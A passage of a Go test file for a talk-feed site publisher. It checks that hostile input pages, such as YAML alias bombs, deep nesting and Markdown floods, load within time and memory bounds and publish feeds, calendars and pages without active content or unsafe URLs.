	{name: "long-line-1mib-title.md", talk: true, check: boundedSlug},
	{name: "long-line-1mib-words.md", talk: true},
	{name: "over-size-limit.md", diags: []want{errAt(0, "over the 1 MiB limit")}},
	{name: "many-lines.md", talk: true},
	{name: "many-paragraphs.md", talk: true},

	// Generated: counts.
	// Plain values past the bound load: a talk keeps its first 100 tags.
	{name: "tags-10000.md", talk: true, diags: []want{warnAt(4, `over 100 tags \(10000\); the first 100 are kept`)}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if len(ev.Tags) != 100 {
			t.Errorf("%d tags", len(ev.Tags))
		}
	}},
	{name: "tags-9000.md", talk: true, diags: []want{warnAt(4, `over 100 tags \(9000\)`)}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if len(ev.Tags) != 100 {
			t.Errorf("%d tags", len(ev.Tags))
		}
	}},
	{name: "tags-10000-comma-text.md", talk: true, diags: []want{warnAt(4, `over 100 tags \(10000\)`)}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if len(ev.Tags) != 100 {
			t.Errorf("%d tags", len(ev.Tags))
		}
	}},
	{name: "tags-9000-same-slug.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if !slices.Equal(ev.Tags, []string{"Fast Data"}) {
			t.Errorf("tags %q", ev.Tags)
		}
	}},
	{name: "speakers-2400-list.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if len(ev.Speakers) != 2400 {
			t.Errorf("%d speakers", len(ev.Speakers))
		}
	}},
	{name: "speakers-10000-text.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if len(ev.Speakers) != 20000 {
			t.Errorf("%d speakers", len(ev.Speakers))
		}
	}},
	{name: "categories-9000.md", talk: true, diags: []want{warnAt(4, `over 100 tags \(8999\)`)}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if ev.Category != "Category 0" || len(ev.Tags) != 100 {
			t.Errorf("category %q, %d tags", ev.Category, len(ev.Tags))
		}
	}},
	{name: "yaml-50000-keys.md", diags: []want{errAt(0, "front matter has over 50000 values")}},
	{name: "yaml-9000-duplicate-keys.md", talk: true, diags: []want{warnAt(0, `repeats "end_________date" from line 4`)}},

	// Generated: front matter nesting and expansion.
	{name: "yaml-deep-flow-nesting.md", diags: []want{errAt(4, "^YAML: exceeded max depth")}},
	{name: "yaml-deep-flow-mapping.md", diags: []want{errAt(4, "^YAML: exceeded max depth")}},
	{name: "yaml-deep-block-nesting.md", talk: true},
	{name: "yaml-deep-nesting-in-title.md", diags: []want{errAt(2, "^YAML: exceeded max depth")}},
	{name: "yaml-alias-bomb-wide.md", diags: []want{errAt(2, "aliases expand to over 10000 more values")}},
	{name: "yaml-alias-flood.md", diags: []want{errAt(0, "front matter has over 50000 values")}},
	{name: "toml-deep-array-nesting.md", diags: []want{errAt(4, "^TOML: .*nested more than")}},
	{name: "toml-deep-inline-tables.md", diags: []want{errAt(4, "^TOML: .*nested more than")}},
	{name: "toml-deep-dotted-table.md", diags: []want{errAt(4, "front matter has over 50000 values")}},

	// Generated: pathological Markdown. A body too deep for the HTML
	// parser may be dropped with a warning; nothing may hang.
	{name: "markdown-nested-emphasis-10k.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-nested-strong-10k.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-emphasis-openers.md", talk: true},
	{name: "markdown-emphasis-mixed.md", talk: true},
	{name: "markdown-strikethrough-flood.md", talk: true},
	{name: "markdown-link-flood-40kb.md", talk: true},
	{name: "markdown-link-flood-400kb.md", talk: true},
	{name: "markdown-link-flood-unclosed-title.md", talk: true},
	{name: "markdown-bracket-flood.md", talk: true},
	{name: "markdown-closing-bracket-flood.md", talk: true},
	{name: "markdown-image-flood.md", talk: true},
	{name: "markdown-bracket-pairs.md", talk: true},
	{name: "markdown-reference-flood.md", talk: true},
	{name: "markdown-deep-list.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-deep-ordered-list.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-deep-indented-list.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-deep-quote.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-deep-quote-list.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-huge-table.md", talk: true},
	{name: "markdown-table-amplification.md", talk: true},
	{name: "markdown-table-wide.md", talk: true},
	{name: "markdown-backtick-runs.md", talk: true},
	{name: "markdown-backtick-flood.md", talk: true},
	{name: "markdown-html-comment-flood.md", talk: true},
	{name: "markdown-html-open-tag-flood.md", talk: true},
	{name: "markdown-html-deep-nesting.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-html-deep-inline.md", talk: true, allow: []want{warnAt(0, renderWarning)}},
	{name: "markdown-autolink-flood.md", talk: true},
	{name: "markdown-url-flood.md", talk: true},
	{name: "markdown-entity-flood.md", talk: true},
	{name: "markdown-escape-flood.md", talk: true},
	{name: "markdown-heading-flood.md", talk: true},
	{name: "markdown-setext-flood.md", talk: true},
	{name: "markdown-fence-flood.md", talk: true},
	{name: "markdown-script-flood.md", talk: true},
}

func noCR(t *testing.T, ev *talkfeed.Event, _ *Tree) {
	for field, s := range textFields(ev) {
		if strings.Contains(s, "\r") {
			t.Errorf("%s %q keeps a CR", field, s)
		}
	}
	if strings.Contains(ev.BodyHTML, "\r") {
		t.Errorf("body %q keeps a CR", ev.BodyHTML)
	}
}

func noControls(t *testing.T, ev *talkfeed.Event, _ *Tree) {
	for field, s := range textFields(ev) {
		if i := strings.IndexFunc(s, unicode.IsControl); i >= 0 {
			t.Errorf("%s %q keeps a control character at byte %d", field, s, i)
		}
	}
}

// boundedSlug: the talk's page is published, under a name a file system
// can hold (every tree path is checked for that too).
func boundedSlug(t *testing.T, ev *talkfeed.Event, tree *Tree) {
	p := TalkPagePath(hostileSite.BaseURL, ev)
	if _, ok := tree.File(p); !ok {
		t.Errorf("no talk page at %s", p)
	}
	for _, seg := range strings.Split(p, "/") {
		if len(seg) > nameMax {
			t.Errorf("talk page path segment of %d bytes", len(seg))
		}
	}
}

// icsEnds: the talk's own calendar, as go-ical reads it, ends then.
func icsEnds(end string) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, tree *Tree) {
		f, ok := tree.File(EventICSPath(ev.ID))
		if !ok {
			t.Fatalf("no %s", EventICSPath(ev.ID))
		}
		cal, err := goical.NewDecoder(bytes.NewReader(f.Body)).Decode()
		if err != nil {
			t.Fatal(err)
		}
		evs := cal.Events()
		if len(evs) != 1 {
			t.Fatalf("%d events", len(evs))
		}
		got, err := evs[0].DateTimeEnd(nil)
		if err != nil {
			t.Fatal(err)
		}
		want, _ := time.Parse(time.RFC3339, end)
		if !got.Equal(want) {
			t.Errorf("DTEND %v, want %v", got, want)
		}
	}
}

// textFields are an event's plain-text fields, by name.
func textFields(ev *talkfeed.Event) map[string]string {
	m := map[string]string{
		"title": ev.Title, "summary": ev.Summary, "location": ev.Location, "venue": ev.Venue, "address": ev.Address,
		"event name": ev.EventName, "category": ev.Category, "speaker text": ev.SpeakerText,
	}
	for i, tag := range ev.Tags {
		m[fmt.Sprintf("tag %d", i)] = tag
	}
	for i, s := range ev.Speakers {
		m[fmt.Sprintf("speaker %d name", i)] = s.Name
		m[fmt.Sprintf("speaker %d affiliation", i)] = s.Affiliation
	}
	return m
}

// pageBytes are the bytes of the case's page: the stored file, or the
// generator's at its hostile size.
func pageBytes(t *testing.T, name string) []byte {
	t.Helper()
	if g, ok := hostile.GeneratorNamed(name); ok {
		return g.Make(g.Size)
	}
	if !slices.Contains(hostile.Names(), name) {
		t.Fatalf("%s is neither a stored page nor a generator", name)
	}
	return hostile.Page(name)
}

// Every stored page and every generator has its case, once.
func TestHostileCorpusIsCovered(t *testing.T) {
	cases := map[string]int{}
	for _, c := range hostileCases {
		cases[c.name]++
	}
	var pages []string
	for _, n := range hostile.Names() {
		pages = append(pages, n)
	}
	if len(pages) < 80 {
		t.Errorf("%d stored pages, want at least 80", len(pages))
	}
	for _, g := range hostile.Generators {
		if slices.Contains(pages, g.Name) {
			t.Errorf("%s is both stored and generated", g.Name)
		}
		pages = append(pages, g.Name)
	}
	for _, p := range pages {
		if cases[p] != 1 {
			t.Errorf("%s has %d cases, want 1", p, cases[p])
		}
		delete(cases, p)
	}
	for name := range cases {
		t.Errorf("case %s has no page", name)
	}
}

func hostileLoader(t *testing.T) *source.Loader {
	t.Helper()
	l, err := source.NewLoader(source.Options{
		BaseURL: hostileSite.BaseURL, DefaultZone: time.UTC, Workers: 1,
		Today: func() time.Time { return demo.Anchor },
	})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// pageFS holds pages with a fixed modification time.
func pageFS(pages map[string][]byte) fstest.MapFS {
	fsys := fstest.MapFS{}
	for name, b := range pages {
		fsys[name] = &fstest.MapFile{Data: b, Mode: 0o644, ModTime: demo.Anchor}
	}
	return fsys
}

func goodFS(extra map[string][]byte) fstest.MapFS {
	pages := map[string][]byte{}
	for name, s := range goodPages {
		pages[name] = []byte(s)
	}
	for name, b := range extra {
		pages[name] = b
	}
	return pageFS(pages)
}

func hostileBuild(evs []talkfeed.Event) (*Tree, error) {
	// Lazy, as the daemon serves: large files are left to compress
	// later; compressing is linear and is not what a hostile page tests.
	return Build(talkfeed.NewCatalog(evs), Options{Site: hostileSite, Generator: "talkfeed hostile test", TTL: 5 * time.Minute, Today: demo.Anchor, Lazy: true})
}

// bounded runs f within the deadline and the allocation bound, failing
// the test clearly on a hang (f is then left running: the test binary
// ends with the failure).
func bounded[T any](t *testing.T, what string, deadline time.Duration, f func() (T, error)) T {
	t.Helper()
	type result struct {
		v     T
		err   error
		alloc uint64
	}
	done := make(chan result, 1)
	start := time.Now()
	go func() {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		v, err := f()
		runtime.ReadMemStats(&after)
		done <- result{v, err, after.TotalAlloc - before.TotalAlloc}
	}()
	select {
	case r := <-done:
		if r.err != nil {
			t.Fatalf("%s: %v", what, r.err)
		}
		if r.alloc > hostileMaxAlloc {
			t.Errorf("%s allocated %d MiB, over the bound of %d MiB", what, r.alloc>>20, hostileMaxAlloc>>20)
		}
		return r.v
	case <-time.After(deadline):
		t.Fatalf("%s did not finish within %v: a hang", what, time.Since(start).Round(time.Millisecond))
	}
	panic("unreachable")
}

func TestHostilePages(t *testing.T) {
	if raceEnabled {
		// Two hundred builds take minutes under the race detector and
		// race nothing: .ci/run runs this without it.
		t.Skip("the hostile corpus runs without -race (.ci/run)")
	}
	deadline := hostileDeadline
	// The good pages alone: what they must still be beside any page.
	goodRes, err := hostileLoader(t).Load(context.Background(), goodFS(nil))
	if err != nil || len(goodRes.Events) != len(goodPages) || len(goodRes.Diagnostics) != 0 {
		t.Fatalf("good pages: %v, %d events, %v", err, len(goodRes.Events), goodRes.Diagnostics)
	}
	for _, c := range hostileCases {
		t.Run(strings.TrimSuffix(c.name, ".md"), func(t *testing.T) {
			if c.pending != "" && !runPending(c.name) {
				t.Skip("pending: " + c.pending)
			}
			data := pageBytes(t, c.name)

			// Alone. The loader is kept for the load beside the good
			// pages, as the daemon keeps it across reloads: that load
			// takes the page's parse from its cache (same path, bytes
			// and time) and parses the good pages.
			l := hostileLoader(t)
			alone := bounded(t, "loading the page alone", deadline, func() (*source.Result, error) {
				return l.Load(context.Background(), pageFS(map[string][]byte{c.name: data}))
			})
			// A body past the Markdown bound (a generated page's) is
			// shown as text, with a warning.
			c.allow = append(slices.Clone(c.allow), warnAt(1, "shown as plain text, not rendered as Markdown"))
			checkDiagnostics(t, "alone", alone.Diagnostics, c.name, c.diags, c.allow)
			if got := len(alone.Events); got != map[bool]int{true: 1, false: 0}[c.talk] {
				t.Fatalf("%d talks, want talk=%v", got, c.talk)
			}

			// Beside the good pages, published.
			type built struct {
				res  *source.Result
				tree *Tree
			}
			b := bounded(t, "loading the page beside the good ones and publishing them", deadline, func() (built, error) {
				res, err := l.Load(context.Background(), goodFS(map[string][]byte{c.name: data}))
				if err != nil {
					return built{}, err
				}
				tree, err := hostileBuild(res.Events)
				return built{res, tree}, err
			})
			checkDiagnostics(t, "beside the good pages", b.res.Diagnostics, c.name, append(slices.Clone(c.diags), c.beside...), c.allow)
			for _, d := range b.res.Diagnostics {
				if d.File != c.name {
					t.Errorf("a diagnostic for another page: %v", d)
				}
			}
			var ev *talkfeed.Event
			for i := range b.res.Events {
				e := &b.res.Events[i]
				if e.Source.Path == c.name {
					ev = e
					continue
				}
				want := goodEvent(goodRes, e.Source.Path)
				if want == nil || !reflect.DeepEqual(*e, *want) {
					t.Errorf("%s changed beside the page:\n got %+v\nwant %+v", e.Source.Path, *e, want)
				}
			}
			if n := len(b.res.Events); n != len(goodPages)+len(alone.Events) {
				t.Errorf("%d talks beside the good pages, want %d", n, len(goodPages)+len(alone.Events))
			}
			checkTree(t, b.tree, goodRes.Events)
			if ev != nil {
				checkEvent(t, ev, b.tree)
				if c.check != nil {
					c.check(t, ev, b.tree)
				}
			}
		})
	}
}

// runPending reports whether a pending case runs all the same:
// HOSTILE_PENDING is a regular expression of the names of those to run
// (HOSTILE_PENDING=xss- go test -run TestHostilePages ./publish), to see
// which now pass once their fix is in. A quadratic page left running
// past its deadline keeps a core busy until the test binary ends.
func runPending(name string) bool {
	re := os.Getenv("HOSTILE_PENDING")
	return re != "" && regexp.MustCompile(re).MatchString(name)
}

func goodEvent(res *source.Result, p string) *talkfeed.Event {
	for i := range res.Events {
		if res.Events[i].Source.Path == p {
			return &res.Events[i]
		}
	}
	return nil
}

// checkDiagnostics asserts that every wanted diagnostic is reported for
// the page, and that every warning and error reported is wanted or
// allowed.
func checkDiagnostics(t *testing.T, when string, got []talkfeed.Diagnostic, file string, wants, allow []want) {
	t.Helper()
	var mine []talkfeed.Diagnostic
	for _, d := range got {
		if d.File == file {
			mine = append(mine, d)
		}
	}
	for _, w := range wants {
		if !slices.ContainsFunc(mine, w.matches) {
			t.Errorf("%s: no %v among %v", when, w, mine)
		}
	}
	for _, d := range mine {
		if d.Severity == talkfeed.SeverityNotice {
			continue
		}
		if !slices.ContainsFunc(wants, func(w want) bool { return w.matches(d) }) && !slices.ContainsFunc(allow, func(w want) bool { return w.matches(d) }) {
			t.Errorf("%s: unexpected %v", when, d)
		}
	}
}

// checkEvent asserts what every talk must be: plain-text fields that
// hold no markup, a body with nothing active, http(s) URLs only, and a
// page whose heading is the title.
func checkEvent(t *testing.T, ev *talkfeed.Event, tree *Tree) {
	t.Helper()
	if ev.ID == "" || ev.Title == "" || ev.Start.IsZero() || ev.PageURL == "" {
		t.Errorf("incomplete talk %+v", ev)
	}
	if !ev.End.IsZero() && ev.End.Before(ev.Start) {
		t.Errorf("ends %v before it starts %v", ev.End, ev.Start)
	}
	for field, s := range textFields(ev) {
		if el := firstElement(s); el != "" {
			t.Errorf("%s %q is not plain text: it holds <%s>", field, s, el)
		}
	}
	if err := hostile.CheckFragment(ev.BodyHTML); err != nil {
		t.Errorf("body: %v", err)
	}
	urls := map[string]string{"page": ev.PageURL, "image": ev.ImageURL, "online": ev.OnlineURL,
		"slides": ev.Links.Slides, "video": ev.Links.Video, "registration": ev.Links.Registration}
	for i, s := range ev.Speakers {
		urls[fmt.Sprintf("speaker %d", i)] = s.URL
	}
	for field, u := range urls {
		if u == "" {
			continue
		}
		if p, err := url.Parse(u); err != nil || (p.Scheme != "http" && p.Scheme != "https") || p.Host == "" {
			t.Errorf("%s URL %q is not an absolute http(s) URL", field, u)
		}
	}
	// The page is at its permalink unless that is another output.
	f, ok := tree.File(TalkPagePath(hostileSite.BaseURL, ev))
	if !ok || f.ContentType != TypeHTML || f.Path == IndexPath {
		if f, ok = tree.File(fallbackTalkPagePath(ev)); !ok {
			t.Errorf("no page for %s at %s", ev.ID, TalkPagePath(hostileSite.BaseURL, ev))
			return
		}
	}
	doc, err := html.Parse(bytes.NewReader(f.Body))
	if err != nil {
		t.Fatal(err)
	}
	if h1 := find(doc, atom.H1); h1 == nil || htmltest.Text(h1) != strings.Join(strings.Fields(ev.Title), " ") {
		t.Errorf("the page's heading is not the title %q", ev.Title)
	}
}

// firstElement returns the first element s holds when parsed as HTML,
// "" when it is text alone.
func firstElement(s string) string {
	if !strings.Contains(s, "<") {
		return ""
	}
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(s), ctx)
	if err != nil {
		return "unparseable"
	}
	for _, n := range nodes {
		if e := find(n, 0); e != nil {
			return e.Data
		}
	}
	return ""
}

// find returns the first element below (or at) n with the atom, or any
// element for 0.
func find(n *html.Node, a atom.Atom) *html.Node {
	if n.Type == html.ElementNode && (a == 0 || n.DataAtom == a) {
		return n
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if e := find(c, a); e != nil {
			return e
		}
	}
	return nil
}

// checkTree reads every output back with an independent parser and
// asserts that none carries anything active, that every path is one a
// file system can hold under the tree's root, and that the good pages
// are published.
func checkTree(t *testing.T, tree *Tree, good []talkfeed.Event) {
	t.Helper()
	for _, f := range tree.Files() {
		checkPath(t, f.Path)
		switch f.ContentType {
		case TypeRSS, TypeAtom, TypeJSON:
			checkHostileFeed(t, f)
		case TypeICS:
			checkICS(t, f)
		case TypeHTML:
			if err := hostile.CheckPage(f.Body, hostile.PageAllowance{BaseURL: hostileSite.BaseURL}); err != nil {
				t.Errorf("%s: %v", f.Path, err)
			}
		}
	}
	feed := parseFeedFile(t, tree, "feed.rss")
	for i := range good {
		e := &good[i]
		for _, p := range []string{TalkPagePath(hostileSite.BaseURL, e), EventICSPath(e.ID)} {
			if _, ok := tree.File(p); !ok {
				t.Errorf("good page %s is not published at %s", e.ID, p)
			}
		}
		if feed != nil && !slices.ContainsFunc(feed.Items, func(it *gofeed.Item) bool { return it.Link == e.PageURL }) {
			t.Errorf("feed.rss has no item for good page %s", e.ID)
		}
	}
}

func checkPath(t *testing.T, p string) {
	t.Helper()
	if p == "" || strings.HasPrefix(p, "/") || strings.ContainsAny(p, "\\\x00") {
		t.Errorf("tree path %q", p)
		return
	}
	for _, seg := range strings.Split(p, "/") {
		if seg == "" || seg == "." || seg == ".." || len(seg) > nameMax {
			t.Errorf("tree path %.120q has a segment %.40q of %d bytes", p, seg, len(seg))
		}
	}
}

func parseFeedFile(t *testing.T, tree *Tree, p string) *gofeed.Feed {
	t.Helper()
	f, ok := tree.File(p)
	if !ok {
		t.Errorf("no %s", p)
		return nil
	}
	feed, err := gofeed.NewParser().Parse(bytes.NewReader(f.Body))
	if err != nil {
		t.Errorf("%s: gofeed: %v", p, err)
		return nil
	}
	return feed
}

func checkHostileFeed(t *testing.T, f File) {
	t.Helper()
	feed, err := gofeed.NewParser().Parse(bytes.NewReader(f.Body))
	if err != nil {
		t.Errorf("%s: gofeed: %v", f.Path, err)
		return
	}
	texts := map[string]string{"title": feed.Title, "description": feed.Description}
	urls := append([]string{feed.Link, feed.FeedLink}, feed.Links...)
	if feed.Image != nil {
		urls = append(urls, feed.Image.URL)
	}
	for i, it := range feed.Items {
		texts[fmt.Sprintf("item %d title", i)] = it.Title
		texts[fmt.Sprintf("item %d description", i)] = it.Description
		texts[fmt.Sprintf("item %d content", i)] = it.Content
		urls = append(urls, it.Link)
		urls = append(urls, it.Links...)
		if it.Image != nil {
			urls = append(urls, it.Image.URL)
		}
		for _, enc := range it.Enclosures {
			urls = append(urls, enc.URL)
		}
		for _, a := range it.Authors {
			texts[fmt.Sprintf("item %d author", i)] = a.Name
		}
	}
	for what, s := range texts {
		if err := hostile.CheckFragment(s); err != nil {
			t.Errorf("%s: %s %.200q: %v", f.Path, what, s, err)
		}
	}
	for _, u := range urls {
		if hostile.DangerousURL(u) {
			t.Errorf("%s: dangerous URL %q", f.Path, u)
		}
	}
}

// icsURLProps are the calendar properties whose values are URLs.
var icsURLProps = []string{goical.PropURL, "IMAGE", "CONFERENCE", "SOURCE", goical.PropAttach, goical.PropTimezoneURL}

func checkICS(t *testing.T, f File) {
	t.Helper()
	cal, err := goical.NewDecoder(bytes.NewReader(f.Body)).Decode()
	if err != nil {
		t.Errorf("%s: go-ical: %v", f.Path, err)
		return
	}
	var walk func(c *goical.Component)
	walk = func(c *goical.Component) {
		for name, props := range c.Props {
			for _, p := range props {
				if (slices.Contains(icsURLProps, name) || p.Params.Get(goical.ParamValue) == "URI") && hostile.DangerousURL(p.Value) {
					t.Errorf("%s: %s %q", f.Path, name, p.Value)
				}
				if name == "X-ALT-DESC" {
					if err := hostile.CheckFragment(p.Value); err != nil {
						t.Errorf("%s: X-ALT-DESC: %v", f.Path, err)
					}
				}
			}
		}
		for _, child := range c.Children {
			walk(child)
		}
	}
	walk(cal.Component)
	for _, ev := range cal.Events() {
		start, err1 := ev.DateTimeStart(nil)
		end, err2 := ev.DateTimeEnd(nil)
		if err1 != nil || err2 != nil || !end.After(start) {
			t.Errorf("%s: %s: DTSTART %v DTEND %v (%v, %v)", f.Path, ev.Props.Get(goical.PropUID).Value, start, end, err1, err2)
		}
	}
}
